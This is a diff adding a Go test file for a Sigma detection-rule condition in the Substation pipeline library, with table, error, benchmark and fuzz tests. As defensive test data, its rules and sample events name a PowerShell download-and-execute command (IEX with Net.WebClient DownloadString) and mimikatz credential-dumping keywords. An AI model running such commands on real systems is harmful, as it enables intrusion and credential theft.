@@ -0,0 +1,380 @@
+package condition
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/brexhq/substation/v2/config"
+	"github.com/brexhq/substation/v2/message"
+)
+
+var _ Conditioner = &metaSigma{}
+
+var metaSigmaTestRule = `
+title: Suspicious PowerShell Download
+logsource:
+  product: windows
+  category: process_creation
+detection:
+  selection_img:
+    Image|endswith:
+      - '\powershell.exe'
+      - '\pwsh.exe'
+  selection_cli:
+    CommandLine|contains|all:
+      - 'Net.WebClient'
+      - 'DownloadString'
+  filter_admin:
+    User: 'ADMIN\svc_*'
+  condition: all of selection_* and not filter_admin
+`
+
+var metaSigmaTests = []struct {
+	name     string
+	rule     string
+	mappings map[string]string
+	test     []byte
+	expected bool
+}{
+	{
+		"pass",
+		metaSigmaTestRule,
+		nil,
+		[]byte(`{"Image":"C:\\Windows\\System32\\PowerShell.exe","CommandLine":"IEX (New-Object Net.WebClient).DownloadString('http://x')","User":"CORP\\alice"}`),
+		true,
+	},
+	{
+		"fail filter",
+		metaSigmaTestRule,
+		nil,
+		[]byte(`{"Image":"C:\\Windows\\System32\\powershell.exe","CommandLine":"(New-Object Net.WebClient).DownloadString('http://x')","User":"admin\\SVC_backup"}`),
+		false,
+	},
+	{
+		"fail all",
+		metaSigmaTestRule,
+		nil,
+		[]byte(`{"Image":"C:\\Windows\\System32\\pwsh.exe","CommandLine":"(New-Object Net.WebClient).DownloadFile('http://x')"}`),
+		false,
+	},
+	{
+		"field mappings",
+		metaSigmaTestRule,
+		map[string]string{
+			"Image":       "process.executable",
+			"CommandLine": "process.command_line",
+			"User":        "user.name",
+		},
+		[]byte(`{"process":{"executable":"C:\\pwsh.exe","command_line":"Net.WebClient DownloadString"},"user":{"name":"alice"}}`),
+		true,
+	},
+	{
+		"1 of",
+		`
+detection:
+  sel_a:
+    EventID: 4625
+  sel_b:
+    - EventID: 4624
+      LogonType: 10
+    - EventID: 4648
+  condition: 1 of sel_*
+`,
+		nil,
+		[]byte(`{"EventID":4624,"LogonType":10}`),
+		true,
+	},
+	{
+		"1 of",
+		`
+detection:
+  sel_a:
+    EventID: 4625
+  sel_b:
+    - EventID: 4624
+      LogonType: 10
+    - EventID: 4648
+  condition: 1 of sel_*
+`,
+		nil,
+		[]byte(`{"EventID":4624,"LogonType":3}`),
+		false,
+	},
+	{
+		"cidr",
+		`
+detection:
+  selection:
+    src_ip|cidr:
+      - 10.0.0.0/8
+      - 192.168.0.0/16
+  condition: selection
+`,
+		nil,
+		[]byte(`{"src_ip":"192.168.1.20"}`),
+		true,
+	},
+	{
+		"re",
+		`
+detection:
+  selection:
+    url|re|i: '^https?://[a-z]+\.example\.com/'
+  condition: selection
+`,
+		nil,
+		[]byte(`{"url":"HTTPS://www.EXAMPLE.com/login"}`),
+		true,
+	},
+	{
+		"cased",
+		`
+detection:
+  selection:
+    action|cased: Login
+  condition: selection
+`,
+		nil,
+		[]byte(`{"action":"login"}`),
+		false,
+	},
+	{
+		"array",
+		`
+detection:
+  selection:
+    tags|startswith: prod
+  condition: selection
+`,
+		nil,
+		[]byte(`{"tags":["dev","production"]}`),
+		true,
+	},
+	{
+		"null",
+		`
+detection:
+  selection:
+    action: login
+  filter:
+    mfa: null
+  condition: selection and filter
+`,
+		nil,
+		[]byte(`{"action":"login"}`),
+		true,
+	},
+	{
+		"keywords",
+		`
+detection:
+  keywords:
+    - 'mimikatz'
+    - 'sekurlsa::*'
+  condition: keywords
+`,
+		nil,
+		[]byte(`{"message":"Running SEKURLSA::logonpasswords"}`),
+		true,
+	},
+	{
+		"them",
+		`
+detection:
+  sel_a:
+    a: 1
+  sel_b:
+    b: 2
+  _internal:
+    c: 3
+  condition: all of them or (_internal and not sel_a)
+`,
+		nil,
+		[]byte(`{"a":1,"b":2}`),
+		true,
+	},
+	{
+		"condition list",
+		`
+detection:
+  sel_a:
+    a: '1'
+  sel_b:
+    b: '2'
+  condition:
+    - sel_a
+    - sel_b
+`,
+		nil,
+		[]byte(`{"b":"2"}`),
+		true,
+	},
+}
+
+func metaSigmaWriteRule(t testing.TB, rule string) string {
+	t.Helper()
+
+	path := filepath.Join(t.TempDir(), "rule.yml")
+	if err := os.WriteFile(path, []byte(rule), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	return path
+}
+
+func TestMetaSigma(t *testing.T) {
+	ctx := context.TODO()
+
+	for _, test := range metaSigmaTests {
+		t.Run(test.name, func(t *testing.T) {
+			cfg := config.Config{
+				Settings: map[string]interface{}{
+					"rule":           metaSigmaWriteRule(t, test.rule),
+					"field_mappings": test.mappings,
+				},
+			}
+
+			insp, err := newMetaSigma(ctx, cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			message := message.New().SetData(test.test)
+			check, err := insp.Condition(ctx, message)
+			if err != nil {
+				t.Error(err)
+			}
+
+			if test.expected != check {
+				t.Errorf("expected %v, got %v, %v", test.expected, check, string(test.test))
+			}
+		})
+	}
+}
+
+var metaSigmaErrorTests = []struct {
+	name string
+	rule string
+}{
+	{
+		"missing detection",
+		`title: x`,
+	},
+	{
+		"missing condition",
+		`
+detection:
+  selection:
+    a: 1
+`,
+	},
+	{
+		"missing selection",
+		`
+detection:
+  selection:
+    a: 1
+  condition: selection or filter
+`,
+	},
+	{
+		"invalid modifier",
+		`
+detection:
+  selection:
+    a|base64offset: 1
+  condition: selection
+`,
+	},
+	{
+		"aggregation",
+		`
+detection:
+  selection:
+    a: 1
+  condition: selection | count() > 5
+`,
+	},
+	{
+		"parenthesis",
+		`
+detection:
+  selection:
+    a: 1
+  condition: (selection
+`,
+	},
+}
+
+func TestMetaSigmaErrors(t *testing.T) {
+	for _, test := range metaSigmaErrorTests {
+		t.Run(test.name, func(t *testing.T) {
+			if _, err := metaSigmaCompile([]byte(test.rule), nil); err == nil {
+				t.Error("expected error")
+			}
+		})
+	}
+}
+
+func benchmarkMetaSigma(b *testing.B, insp *metaSigma, message *message.Message) {
+	ctx := context.TODO()
+	for i := 0; i < b.N; i++ {
+		_, _ = insp.Condition(ctx, message)
+	}
+}
+
+func BenchmarkMetaSigma(b *testing.B) {
+	for _, test := range metaSigmaTests {
+		insp, err := newMetaSigma(context.TODO(), config.Config{
+			Settings: map[string]interface{}{
+				"rule":           metaSigmaWriteRule(b, test.rule),
+				"field_mappings": test.mappings,
+			},
+		})
+		if err != nil {
+			b.Fatal(err)
+		}
+
+		b.Run(test.name,
+			func(b *testing.B) {
+				message := message.New().SetData(test.test)
+				benchmarkMetaSigma(b, insp, message)
+			},
+		)
+	}
+}
+
+func FuzzTestMetaSigma(f *testing.F) {
+	testcases := [][]byte{
+		[]byte(`{"Image":"C:\\pwsh.exe","CommandLine":"Net.WebClient DownloadString"}`),
+		[]byte(`{"Image":["a","b"]}`),
+		[]byte(`{}`),
+		[]byte(""),
+	}
+
+	for _, tc := range testcases {
+		f.Add(tc)
+	}
+
+	path := metaSigmaWriteRule(f, metaSigmaTestRule)
+
+	f.Fuzz(func(t *testing.T, data []byte) {
+		ctx := context.TODO()
+		message := message.New().SetData(data)
+		insp, err := newMetaSigma(ctx, config.Config{
+			Settings: map[string]interface{}{
+				"rule": path,
+			},
+		})
+		if err != nil {
+			return
+		}
+
+		_, err = insp.Condition(ctx, message)
+		if err != nil {
+			return
+		}
+	})
+}